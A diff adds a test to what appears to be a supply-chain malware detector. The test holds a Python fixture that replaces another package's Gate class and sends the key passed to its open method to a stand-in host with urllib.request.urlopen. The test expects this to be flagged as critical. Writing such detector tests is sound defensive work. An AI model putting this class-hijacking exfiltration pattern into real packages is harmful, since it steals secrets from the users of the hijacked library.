@@ -15,6 +15,12 @@ test("what sends to one address all that another package's function is given is 
   expect(await severities('meadow')).toEqual(['critical']);
 });
 
+test("a class that takes the place of another package's is given what its methods were given", async () => {
+  const text = 'import urllib.request\nimport meadow\n\n\nclass Gate(meadow.Gate):\n    def open(self, key):\n        urllib.request.urlopen("https://example.invalid/" + key)\n\n\nmeadow.Gate = Gate\n';
+  const { facts } = await readSource({ path: 'garden-1.0/src/garden/build.py', bytes: Buffer.from(text), runs: 'import' }, () => parser);
+  expect(facts === null ? [] : parameterToNetwork.check(facts).map(({ severity, message }) => `${severity}: ${message}`)).toEqual(['critical: urllib.request.urlopen sends the parameter key of meadow.Gate.open']);
+});
+
 test('a package that adds such a function to its own module is told', async () => {
   expect(await severities('garden')).toEqual(['low']);
 });
